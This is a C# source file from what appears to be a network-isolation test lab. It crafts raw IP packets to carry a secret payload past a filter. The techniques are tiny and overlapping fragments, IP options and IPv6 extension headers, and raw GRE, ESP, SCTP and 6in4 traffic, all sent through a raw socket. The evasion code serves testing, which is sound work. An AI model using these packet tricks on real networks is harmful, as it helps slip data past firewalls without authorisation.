using System.Net;
using System.Net.Sockets;
using Exeat.Linux;
using Exeat.Names;
using Exeat.Wire;

namespace Exeat.Lab.Attacks;

/// <summary>Crafted IP packets: fragments, options, extension headers, other protocols (K1, K2, K3). Sent past the agent's own stack.</summary>
internal static class DatagramTricks
{
    private static readonly TimeSpan Gap = TimeSpan.FromMilliseconds(100);

    public static async Task<bool> RunAsync(string trick, AttackTarget target)
    {
        bool v6 = target.Family == AddressFamily.InterNetworkV6;
        // A flow and a datagram of its own each time: what waits for the missing fragment of an earlier trick is not mixed into it.
        int own = Random.Shared.Next(20_000);
        var draft = new PacketDraft
        {
            Source = Own(target),
            Destination = Address.TryParse(target.Address.ToString(), out Address to) ? to : default,
            Protocol = IpProtocol.Udp,
            SourcePort = (ushort)(40_000 + own),
            DestinationPort = (ushort)target.Port,
            Payload = target.Secret,
            HopLimit = 60,
            Identification = (ushort)(1 + own),
        };
        byte[] whole = Write(draft);
        byte[] udp = whole[(v6 ? 40 : 20)..];
        using var sender = new RawSender(0);
        foreach (byte[] packet in Packets(trick, draft, udp, v6))
        {
            Errno error = sender.Send(packet);
            if (error != Errno.None) throw new Topology.LabException($"{trick}: the agent's own kernel refused: {error}");
            // What comes later shall find the flow permitted already.
            if (trick.EndsWith("-later", StringComparison.Ordinal)) await Task.Delay(Gap, TimeProvider.System);
        }
        return true;
    }

    private static byte[][] Packets(string trick, PacketDraft draft, byte[] udp, bool v6)
    {
        switch (trick)
        {
            case "udp-fragments":
                return [Fragment(draft, udp, 0, 128, more: true), Fragment(draft, udp, 128, udp.Length - 128, more: false)];
            case "tiny-fragment":
                return [Fragment(draft, udp, 0, 8, more: true), Fragment(draft, udp, 8, udp.Length - 8, more: false)];
            case "overlapping-fragments":
                return [Fragment(draft, udp, 0, 128, more: true), Fragment(draft, udp, 64, udp.Length - 64, more: false)];
            case "first-fragment-only":
                return [Fragment(draft, udp, 0, 128, more: true)];
            case "ip-options" when v6:
                // A routing header of type 0 (RFC 5095), no segments left.
                return [Write(draft with { IpOptions = new byte[] { IpProtocol.Udp, 0, 0, 0, 0, 0, 0, 0 }, ExtensionHeader = IpProtocol.Routing })];
            case "ip-options":
                // Record route, room for one address.
                return [Write(draft with { IpOptions = new byte[] { 7, 7, 4, 0, 0, 0, 0, 0 } })];
            case "plain-later":
                return [Plain(draft), Write(draft)];
            case "ip-options-later":
                return [Plain(draft), .. Packets("ip-options", draft, udp, v6)];
            case "hop-options-later":
                return [Plain(draft), Write(draft with { IpOptions = new byte[] { IpProtocol.Udp, 0, 1, 4, 0, 0, 0, 0 }, ExtensionHeader = IpProtocol.HopByHop })];
            case "end-options-later":
                return [Plain(draft), Write(draft with { IpOptions = new byte[] { IpProtocol.Udp, 0, 1, 4, 0, 0, 0, 0 }, ExtensionHeader = IpProtocol.DestinationOptions })];
            case "whole-fragment-later":
                // A fragment that is the whole datagram (RFC 6946).
                return [Plain(draft), Write(draft with { IpOptions = new byte[] { IpProtocol.Udp, 0, 0, 0, 0, 0, 0x42, 0x42 }, ExtensionHeader = IpProtocol.Fragment })];
            case "gre" or "esp" or "sctp" or "6in4":
                byte number = trick switch { "gre" => 47, "esp" => 50, "sctp" => 132, _ => 41 };
                return [Write(draft with { Protocol = number, IsRaw = true })];
            default:
                throw new Topology.LabException($"no trick of datagrams is named {trick}");
        }
    }

    // The same flow, without the mark.
    private static byte[] Plain(PacketDraft draft) => Write(draft with { Payload = "hello"u8.ToArray() });

    private static byte[] Fragment(PacketDraft draft, byte[] udp, int at, int length, bool more) =>
        Write(draft with { IsRaw = true, Payload = udp.AsSpan(at, length).ToArray(), FragmentOffset = (ushort)at, MoreFragments = more });

    private static byte[] Write(PacketDraft draft)
    {
        byte[] room = new byte[PacketWriter.MaxBytes];
        int length = PacketWriter.Write(draft, room);
        return length > 0 ? room[..length] : throw new Topology.LabException("the packet cannot be written");
    }

    private static Address Own(AttackTarget target)
    {
        using var socket = new Socket(target.Family, SocketType.Dgram, ProtocolType.Udp);
        socket.Connect(target.EndPoint);
        return Address.TryParse(((IPEndPoint)socket.LocalEndPoint!).Address.ToString(), out Address own) ? own : default;
    }
}
